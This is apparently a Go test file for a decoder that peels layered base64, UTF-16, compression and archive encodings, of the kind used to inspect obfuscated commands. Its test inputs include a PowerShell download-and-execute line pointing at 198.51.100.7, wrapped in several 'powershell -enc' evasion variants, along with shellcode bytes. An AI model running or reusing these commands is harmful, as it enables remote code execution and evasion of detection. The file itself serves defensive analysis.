package unpack

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// A row is a layer in one line: depth, encoding, type, charset, name, text.
type row struct {
	Depth                         int
	Encoding, Type, Charset, Name string
	Text                          string
}

func rows(layers []Layer) []row {
	var out []row
	for _, l := range layers {
		out = append(out, row{l.Depth, l.Encoding, l.Type, l.Charset, l.Name, strings.Clone(l.Text)})
	}
	return out
}

func text(depth int, encoding, s string) row {
	return row{Depth: depth, Encoding: encoding, Type: "text", Charset: "utf-8", Text: s}
}

func text16(depth int, s string) row {
	return row{Depth: depth, Encoding: "base64", Type: "text", Charset: "utf-16le", Text: s}
}

func kind(depth int, encoding, name string) row {
	return row{Depth: depth, Encoding: encoding, Type: name}
}

// wrapped breaks base64 into lines of 64 digits.
func wrapped(s, lineBreak string) string {
	var b strings.Builder
	for ; len(s) > 64; s = s[64:] {
		b.WriteString(s[:64] + lineBreak)
	}
	return b.String() + s + lineBreak
}

const script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"

func TestUnpack(t *testing.T) {
	shellcode := "\xfc\xe8\x82\x00\x00\x00\x60\x89\xe5\x31\xc0\x64\x8b\x50\x30\x8b\x52\x0c\x8b\x52\x14\x8b\x72\x28\x0f\xb7\x4a\x26"
	url := "http://example.com/download?file=report"
	urlSafe := base64.URLEncoding.EncodeToString([]byte("subjects?~~~ and more >>> of them"))
	if !strings.ContainsAny(urlSafe, "-_") {
		t.Fatalf("%s has no digit of the alphabet for URLs", urlSafe)
	}
	pe := "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
	lines := b64([]byte(strings.Repeat(script+"\n", 3)))
	tests := []struct {
		name, in string
		want     []row
	}{
		{"nothing", "", nil},
		{"option", "powershell.exe -nop -enc " + b64(wide(script)), []row{text16(1, script)}},
		{"option in another case", "pwsh -EnCoDeD " + b64(wide(script)), []row{text16(1, script)}},
		{"ec", "powershell -ec " + b64(wide(script)), []row{text16(1, script)}},
		{"slash", "powershell /e " + b64(wide("dir")), []row{text16(1, "dir")}},
		{"dash of another kind", "powershell \u2013enc " + b64(wide("dir")), []row{text16(1, "dir")}},
		{"carets", "cmd /c powershell -e^nc " + b64(wide("dir")), []row{text16(1, "dir")}},
		{"colon", "powershell -EncodedCommand:" + b64(wide("dir")), []row{text16(1, "dir")}},
		{"quotes", `powershell -enc "` + b64(wide("dir")) + `"`, []row{text16(1, "dir")}},
		{"unpadded option", "powershell -enc " + strings.TrimRight(b64(wide("Get-Process")), "="), []row{text16(1, "Get-Process")}},
		{"odd last byte", "powershell -enc " + b64(append(wide("dir c:"), 'x')), []row{text16(1, "dir c:\ufffd")}},
		{"one digit too many", "powershell -enc " + b64(wide("dir"))[:8] + "Q", []row{text16(1, "dir")}},
		{"UTF-8 behind an option", "powershell -enc " + b64([]byte("whoami /all")), []row{text(1, "base64", "whoami /all")}},
		{"Cyrillic", "powershell -enc " + b64(wide("Запуск процесса")), []row{text16(1, "Запуск процесса")}},
		{"surrogates", "powershell -enc " + b64(wide("Write-Host 'done 🎉'")), []row{text16(1, "Write-Host 'done 🎉'")}},
		{"other programs' -e", "grep -e " + b64(wide("dir")), nil},

		{"quoted", "[Convert]::FromBase64String('" + b64([]byte(url)) + "')", []row{text(1, "base64", url)}},
		{"short, but announced", `FromBase64String("` + b64([]byte("calc.exe")) + `")`, []row{text(1, "base64", "calc.exe")}},
		{"alone", b64([]byte(url)), []row{text(1, "base64", url)}},
		{"unpadded", "x=" + strings.TrimRight(b64([]byte(url+"1")), "=") + ";", []row{text(1, "base64", url+"1")}},
		{"for URLs", "d=" + urlSafe, []row{text(1, "base64url", "subjects?~~~ and more >>> of them")}},
		{"in a path", "GET /go/" + b64([]byte(url)) + "/x", []row{text(1, "base64", url)}},
		{"behind a hyphen", "id-" + b64([]byte(url)) + "-2", []row{text(1, "base64", url)}},
		{"two in a line", "a=" + b64([]byte("first secret text")) + " b=" + b64([]byte("second secret text")), []row{
			text(1, "base64", "first secret text"), text(1, "base64", "second secret text"),
		}},
		{"in lines", "-----BEGIN X-----\r\n" + wrapped(lines, "\r\n") + "-----END X-----", []row{
			text(1, "base64", strings.Repeat(script+"\n", 3)),
		}},
		{"in escaped lines", `{"x":"-----BEGIN X-----\n` + wrapped(lines, `\n`) + `"}`, []row{
			text(1, "base64", strings.Repeat(script+"\n", 3)),
		}},
		{"in indented lines", "ticket:\r\n      " + wrapped(lines, "\r\n      "), []row{
			text(1, "base64", strings.Repeat(script+"\n", 3)),
		}},
		{"words below", "powershell -enc " + b64(wide("dir C:\\Windows\\Temp")) + "\n   Engine", []row{text16(1, "dir C:\\Windows\\Temp")}},
		{"words below, not announced", lines[:64] + "\n   Engine Version\n", []row{
			text(1, "base64", script[:48]),
		}},
		{"ticket", "x=" + b64([]byte("\x76\x82\x05\x3e\x30\x82\x05\x3a\xa0\x03\x02\x01\x05\xa1\x03\x02\x01\x16")), []row{kind(1, "base64", "kirbi")}},
		{"lines that are not one", "one two three\n" + b64([]byte("the first line of ours..")) + "\n" + b64([]byte("\x01\x02")) + "\n", []row{
			text(1, "base64", "the first line of ours.."),
		}},
		{"big endian with a mark", b64(wideBE("Get-Process")), []row{
			{1, "base64", "text", "utf-16be", "", "Get-Process"},
		}},
		{"little endian with a mark", b64(append([]byte{0xff, 0xfe}, wide("Get-Process")...)), []row{text16(1, "Get-Process")}},
		{"UTF-8 with a mark", b64([]byte("\ufeffGet-Process | more")), []row{text(1, "base64", "Get-Process | more")}},
		{"bytes announced", "FromBase64String('" + b64([]byte(shellcode)) + "')", []row{kind(1, "base64", "binary")}},
		{"bytes not announced", "x=" + b64([]byte(shellcode)), nil},
		{"program", "echo " + b64([]byte(pe)), []row{kind(1, "base64", "pe")}},

		{"layers in layers", "powershell -enc " + b64(wide("$a='"+b64([]byte("x='"+b64([]byte(url))+"'"))+"'")), []row{
			text16(1, "$a='"+b64([]byte("x='"+b64([]byte(url))+"'"))+"'"),
			text(2, "base64", "x='"+b64([]byte(url))+"'"),
			text(3, "base64", url),
		}},
		{"gzip", "FromBase64String('" + b64(packed(t, "gzip", []byte(script))) + "')", []row{
			kind(1, "base64", "gzip"), text(2, "gzip", script),
		}},
		{"zlib", "x " + b64(packed(t, "zlib", []byte(script))), []row{
			kind(1, "base64", "zlib"), text(2, "zlib", script),
		}},
		{"deflate", "DeflateStream([Convert]::FromBase64String('" + b64(packed(t, "deflate", []byte(script))) + "')", []row{
			kind(1, "base64", "deflate"), text(2, "deflate", script),
		}},
		{"deflate, not announced", "x='" + b64(packed(t, "deflate", []byte(script))) + "'", []row{
			kind(1, "base64", "deflate"), text(2, "deflate", script),
		}},
		{"zstd", b64(packed(t, "zstd", []byte(script))), []row{
			kind(1, "base64", "zstd"), text(2, "zstd", script),
		}},
		{"xz", b64(packed(t, "xz", []byte(script))), []row{
			kind(1, "base64", "xz"), text(2, "xz", script),
		}},
		{"bzip2", b64(bzipped(t)), []row{
			kind(1, "base64", "bzip2"), text(2, "bzip2", "bzip2 packs this script too\n"),
		}},
		{"zip", b64(zipped(t, file{"a.ps1", "# " + b64([]byte(url))}, file{"d/", ""}, file{"d/b", "plain words"})), []row{
			kind(1, "base64", "zip"),
			{2, "zip", "text", "utf-8", "a.ps1", "# " + b64([]byte(url))},
			text(3, "base64", url),
			{2, "zip", "text", "utf-8", "d/b", "plain words"},
		}},
		{"tar in gzip", b64(packed(t, "gzip", tarred(t, file{"etc/x", "plain words"}, file{"nil", ""}))), []row{
			kind(1, "base64", "gzip"),
			kind(2, "gzip", "tar"),
			{3, "tar", "text", "utf-8", "etc/x", "plain words"},
			{3, "tar", "empty", "", "nil", ""},
		}},
		{"tar", b64(tarred(t, file{"etc/x", "plain words"})), []row{
			kind(1, "base64", "tar"),
			{2, "tar", "text", "utf-8", "etc/x", "plain words"},
		}},
	}
	u := New(Limits{})
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, rows(u.Unpack(tt.in))); diff != "" {
				t.Errorf("%.200s\n(-want +got)\n%s", tt.in, diff)
			}
		})
	}
	if diff := cmp.Diff(map[string]int{"damaged": 1}, u.Cut()); diff != "" {
		t.Errorf("cut (-want +got)\n%s", diff)
	}
}

func TestParentsAndPlaces(t *testing.T) {
	inner := b64([]byte("the innermost words"))
	middle := b64([]byte("<" + inner + ">"))
	gz := b64(packed(t, "gzip", []byte("packed words")))
	in := "ü " + middle + " and " + gz + "."
	got := New(Limits{}).Unpack(in)
	type place struct {
		Parent int
		Cut    string
	}
	want := []place{{-1, middle}, {0, inner}, {-1, gz}, {2, ""}}
	var places []place
	for _, l := range got {
		from := in
		if l.Parent >= 0 {
			from = got[l.Parent].Text
		}
		places = append(places, place{l.Parent, from[l.Start:l.End]})
	}
	if diff := cmp.Diff(want, places); diff != "" {
		t.Errorf("(-want +got)\n%s", diff)
	}
	if data := string(got[1].Data); data != "the innermost words" {
		t.Errorf("data %q", data)
	}
}

func TestEveryByteIsKept(t *testing.T) {
	data := append(wide("Get-Date"), 0x41)
	got := New(Limits{}).Unpack("powershell -enc " + b64(data))
	if len(got) != 1 || string(got[0].Data) != string(data) {
		t.Errorf("got %v, want the %d bytes %q", got, len(data), data)
	}
}

func TestDamaged(t *testing.T) {
	whole := packed(t, "gzip", []byte(strings.Repeat(script+"\n", 20)))
	cutOff := New(Limits{})
	layers := cutOff.Unpack("FromBase64String('" + b64(whole[:len(whole)-12]) + "')")
	if len(layers) != 2 || !strings.HasPrefix(layers[1].Text, script) {
		t.Errorf("a gzip stream that is cut off gives %d layers, want what can be read of it", len(layers))
	}
	encrypted := zipped(t, file{"a", "secret"})
	encrypted[6] |= 1
	encrypted[strings.Index(string(encrypted), "PK\x01\x02")+8] |= 1
	for name, in := range map[string]string{
		"cut off":   "",
		"zip":       b64([]byte("PK\x03\x04\x14\x00\x00\x00\x08\x00 and so on")),
		"encrypted": b64(encrypted),
	} {
		u := cutOff
		if in != "" {
			u = New(Limits{})
			if got := u.Unpack(in); len(got) != 1 || got[0].Type != "zip" {
				t.Errorf("%s: got %v, want one layer", name, got)
			}
		}
		if diff := cmp.Diff(map[string]int{"damaged": 1}, u.Cut()); diff != "" {
			t.Errorf("%s (-want +got)\n%s", name, diff)
		}
	}
}
